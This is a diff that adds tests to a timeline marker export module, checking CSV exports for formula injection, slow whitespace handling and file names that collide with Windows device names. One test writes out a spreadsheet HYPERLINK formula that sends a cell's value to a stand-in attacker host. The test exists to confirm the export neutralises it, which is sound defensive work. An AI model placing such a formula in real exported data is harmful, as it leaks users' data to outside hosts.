@@ -18,7 +18,7 @@ import srt
 import webvtt
 from timecode import Timecode
 
-from integrations.exports.text import COLORS
+from integrations.exports.text import COLORS, filename, one_line
 from integrations.exports.timeline import Marker, Timeline
 from tests.integrations.markers import (
     RATES,
@@ -319,3 +319,26 @@ def test_vtt(rate):
 def clock(text: str) -> Fraction:
     hours, minutes, rest = text.split(":")
     return int(hours) * 3600 + int(minutes) * 60 + Fraction(rest)
+
+
+@pytest.mark.parametrize("name", ["csv", "premiere_csv"])
+def test_a_spreadsheet_calculates_nothing(name):
+    timeline = timeline_at("25")
+    [marker] = random_markers(timeline, 1)
+    marker = replace(marker, author='=HYPERLINK("http://evil.example/?"&B2)', content="A1")
+    delimiter = "\t" if name == "premiere_csv" else ","
+    text = written(name, timeline, [marker]).removeprefix("\ufeff")
+    rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter))
+    cells = [cell for row in rows for cell in row]
+    assert any("HYPERLINK" in cell for cell in cells)
+    assert [cell for cell in cells if cell.startswith("=")] == []
+
+
+def test_a_text_of_spaces_takes_no_longer_than_another():
+    # In quadratic time this takes hours.
+    assert one_line("a" + " " * 2_000_000 + "b\n \n\nc ").endswith("b / c")
+
+
+@pytest.mark.parametrize(("name", "expected"), [("aux", "_aux.csv"), ("Con.1", "_Con.1.csv")])
+def test_no_file_is_named_as_a_device(name, expected):
+    assert filename(name, "csv") == expected
